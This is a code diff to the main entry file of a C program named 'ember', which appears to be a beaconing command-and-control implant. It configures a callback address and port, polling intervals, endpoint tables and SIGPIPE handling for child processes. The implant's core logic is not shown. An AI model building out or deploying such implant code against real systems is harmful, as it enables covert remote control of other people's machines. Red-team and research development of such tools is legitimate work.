@@ -1,20 +1,27 @@
 #define _POSIX_C_SOURCE 200809L // NOLINT
 
 #include <arpa/inet.h>
+#include <signal.h>
 #include <stdlib.h>
 #include <sys/socket.h>
 #include <time.h>
 
+#include "crc32c.h"
 #include "ember.h"
 #include "errors.h"
+#include "mem.h"
 #include "settings.h"
+#include "sha256.h"
+#include "trace.h"
 #include "utils.h"
 
 static settings_t g_initial_settings = {0};
 
 enum
 {
-    PORT = 31337
+    PORT = 31337,
+    POLL_MIN_DELAY_MS = 100,
+    POLL_MAX_DELAY_MS = 60 * 1000,
 };
 
 int main(void)
@@ -24,12 +31,20 @@ int main(void)
     g_initial_settings.mode = BEACON;
     g_initial_settings.interval.tv_sec = 1;
     g_initial_settings.interval.tv_nsec = 0;
-    g_initial_settings.callback_location.sin_addr.s_addr = inet_addr("127.0.0.1");
-    g_initial_settings.callback_location.sin_port = htons(PORT);
-    g_initial_settings.callback_location.sin_family = AF_INET;
+    g_initial_settings.poll.min_delay_ms = POLL_MIN_DELAY_MS;
+    g_initial_settings.poll.max_delay_ms = POLL_MAX_DELAY_MS;
+    g_initial_settings.mem_budget = MEM_DEFAULT_BUDGET;
+    struct sockaddr_in callback_location = {0};
+    callback_location.sin_addr.s_addr = inet_addr("127.0.0.1");
+    callback_location.sin_port = htons(PORT);
+    callback_location.sin_family = AF_INET;
+    endpoint_table_init(&g_initial_settings.callbacks, (struct sockaddr *)&callback_location,
+                        sizeof(struct sockaddr_in));
 
     int ret = EMBER_SUCCESS;
 
+    TRACE_INIT();
+
     // TODO: check other reliable syscalls: getrandom, etc.
     if (-1 == clock_gettime(CLOCK_MONOTONIC, &(struct timespec){0}))
     {
@@ -37,9 +52,20 @@ int main(void)
         ret = EMBER_ERROR;
     }
 
+    // Writes to a child's stdin fail with EPIPE instead of killing the implant when the child stops reading
+    struct sigaction ignore_action = {.sa_handler = SIG_IGN};
+    if ((EMBER_SUCCESS == ret) && (-1 == sigaction(SIGPIPE, &ignore_action, NULL)))
+    {
+        DEBUG_PERROR("sigaction");
+        ret = EMBER_ERROR;
+    }
+
     if (EMBER_SUCCESS == ret)
     {
-        ret = ember_run(g_initial_settings);
+        crc32c_init();
+        sha256_init();
+        mem_set_budget(g_initial_settings.mem_budget);
+        ret = ember_run(&g_initial_settings);
     }
 
     if (EMBER_SUCCESS != ret)